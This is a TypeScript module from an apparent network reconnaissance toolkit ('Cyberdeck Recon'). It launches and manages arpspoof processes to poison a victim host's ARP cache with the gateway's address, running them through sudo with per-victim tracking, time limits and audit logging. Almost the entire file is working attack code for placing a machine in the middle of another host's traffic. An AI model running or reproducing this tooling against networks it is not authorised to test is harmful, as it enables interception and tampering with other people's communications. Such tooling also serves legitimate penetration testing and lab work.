/**
 * Cyberdeck Recon — ARP Spoofer
 *
 * Runs `arpspoof -i <iface> -t <victim> <gateway>` through the gate, one
 * process per victim. A spoof ends when it is stopped, when its duration
 * limit passes (the gate timeout), or when arpspoof exits on its own.
 *
 * Every start, stop and end is audited under COMMAND.
 */

import {
  AuditLevel,
  EXIT_CANCELLED,
  EXIT_TIMEOUT,
  INTERFACE_NAMES,
  NOOP_LOGGER,
  errorMessage,
  isValidIpv4,
  systemClock,
} from '@cyberdeck/kernel';
import type { AuditLogger, Clock, CommandGate, Logger } from '@cyberdeck/kernel';
import type { ReconDeps } from './deps.js';

/** Longest a single spoof may run before the gate kills it: 5 minutes. */
export const DEFAULT_SPOOF_DURATION_MS = 300_000;

export type SpoofRejection = 'invalid_ip' | 'invalid_interface' | 'same_as_gateway' | 'already_active';

export type SpoofEndReason = 'stopped' | 'timeout' | 'exited' | 'error';

export interface SpoofEnd {
  readonly victim: string;
  readonly reason: SpoofEndReason;
  readonly durationMs: number;
  readonly exitCode: number | null;
  readonly stderr: string;
}

export type SpoofStart =
  | { readonly status: 'started'; readonly finished: Promise<SpoofEnd> }
  | { readonly status: 'rejected'; readonly reason: SpoofRejection };

export interface ActiveSpoof {
  readonly victim: string;
  readonly gateway: string;
  readonly iface: string;
  readonly startedAt: number;
  readonly durationMs: number;
}

interface SpoofEntry {
  readonly victim: string;
  readonly gateway: string;
  readonly iface: string;
  readonly startedAt: number;
  readonly controller: AbortController;
  readonly finished: Promise<SpoofEnd>;
}

export interface ArpSpooferOptions extends ReconDeps {
  readonly maxDurationMs?: number | undefined;
  /** Run arpspoof through sudo. Default true. */
  readonly privileged?: boolean | undefined;
}

export class ArpSpoofer {
  private readonly active = new Map<string, SpoofEntry>();
  private readonly gate: CommandGate;
  private readonly audit: AuditLogger | undefined;
  private readonly logger: Logger;
  private readonly now: Clock;
  private readonly maxDurationMs: number;
  private readonly privileged: boolean;

  constructor(options: ArpSpooferOptions) {
    this.gate = options.gate;
    this.audit = options.audit;
    this.logger = (options.logger ?? NOOP_LOGGER).child('arp');
    this.now = options.now ?? systemClock;
    this.maxDurationMs = options.maxDurationMs ?? DEFAULT_SPOOF_DURATION_MS;
    this.privileged = options.privileged ?? true;
  }

  /**
   * Start poisoning `victim`'s ARP cache with `gateway`'s address.
   *
   * @param signal - Aborting it stops the spoof, like stop(victim)
   */
  start(victim: string, gateway: string, iface = 'eth0', signal?: AbortSignal): SpoofStart {
    if (!isValidIpv4(victim) || !isValidIpv4(gateway)) {
      this.audit?.log('VALIDATION', { type: 'arp_invalid_target', target: victim, gateway }, AuditLevel.Warning);
      return { status: 'rejected', reason: 'invalid_ip' };
    }
    if (!INTERFACE_NAMES.includes(iface)) {
      this.audit?.log('VALIDATION', { type: 'arp_invalid_interface', value: iface }, AuditLevel.Warning);
      return { status: 'rejected', reason: 'invalid_interface' };
    }
    if (victim === gateway) {
      this.audit?.log('VALIDATION', { type: 'arp_same_target', value: victim }, AuditLevel.Warning);
      return { status: 'rejected', reason: 'same_as_gateway' };
    }
    if (this.active.has(victim)) {
      return { status: 'rejected', reason: 'already_active' };
    }

    const controller = new AbortController();
    const onCallerAbort = (): void => {
      if (this.active.get(victim)?.controller === controller) this.stop(victim);
    };
    if (signal?.aborted === true) controller.abort();
    else signal?.addEventListener('abort', onCallerAbort, { once: true });
    const detach = (): void => signal?.removeEventListener('abort', onCallerAbort);

    const startedAt = this.now();
    const finished = this.run(victim, gateway, iface, startedAt, controller, detach);
    this.active.set(victim, { victim, gateway, iface, startedAt, controller, finished });

    this.audit?.log('COMMAND', { type: 'arp_spoof_start', victim, gateway, interface: iface });
    this.logger.info(`Spoofing started: ${victim} <- -> ${gateway}`);
    return { status: 'started', finished };
  }

  /** @returns false if `victim` is not being spoofed */
  stop(victim: string): boolean {
    const entry = this.active.get(victim);
    if (entry === undefined) return false;

    this.active.delete(victim);
    entry.controller.abort();
    this.audit?.log('COMMAND', {
      type: 'arp_spoof_stop',
      victim,
      duration_sec: (this.now() - entry.startedAt) / 1000,
    });
    this.logger.info(`Spoofing stopped: ${victim}`);
    return true;
  }

  /** Stop every spoof and wait for the processes to end. */
  async stopAll(): Promise<number> {
    const entries = Array.from(this.active.values());
    for (const entry of entries) this.stop(entry.victim);
    await Promise.all(entries.map((e) => e.finished));
    this.logger.info(`Stopped all spoofing (${entries.length} targets)`);
    return entries.length;
  }

  list(): ReadonlyArray<ActiveSpoof> {
    const now = this.now();
    return Array.from(this.active.values(), (e) => ({
      victim: e.victim,
      gateway: e.gateway,
      iface: e.iface,
      startedAt: e.startedAt,
      durationMs: now - e.startedAt,
    }));
  }

  isActive(victim: string): boolean {
    return this.active.has(victim);
  }

  // Never rejects: every way the process can end becomes a SpoofEnd.
  private async run(
    victim: string,
    gateway: string,
    iface: string,
    startedAt: number,
    controller: AbortController,
    detach: () => void,
  ): Promise<SpoofEnd> {
    let end: Omit<SpoofEnd, 'durationMs' | 'victim'>;
    try {
      const result = await this.gate.execute('arpspoof', ['-i', iface, '-t', victim, gateway], {
        timeoutMs: this.maxDurationMs,
        privileged: this.privileged,
        signal: controller.signal,
      });
      const reason: SpoofEndReason =
        result.exitCode === EXIT_CANCELLED ? 'stopped'
        : result.exitCode === EXIT_TIMEOUT ? 'timeout'
        : 'exited';
      if (reason === 'exited' && result.exitCode !== 0) {
        this.logger.warn(`Spoof error (${victim}): ${result.stderr.trim()}`);
      }
      end = { reason, exitCode: result.exitCode, stderr: result.stderr };
    } catch (err: unknown) {
      this.logger.error(`Spoof exception (${victim}): ${errorMessage(err)}`);
      end = { reason: 'error', exitCode: null, stderr: errorMessage(err) };
    }

    // A restart after stop() owns the slot now; only clear our own entry.
    detach();
    if (this.active.get(victim)?.controller === controller) this.active.delete(victim);

    const durationMs = this.now() - startedAt;
    this.audit?.log('COMMAND', {
      type: 'arp_spoof_end',
      victim,
      reason: end.reason,
      exit_code: end.exitCode,
      duration_sec: durationMs / 1000,
    });
    return { victim, durationMs, ...end };
  }
}
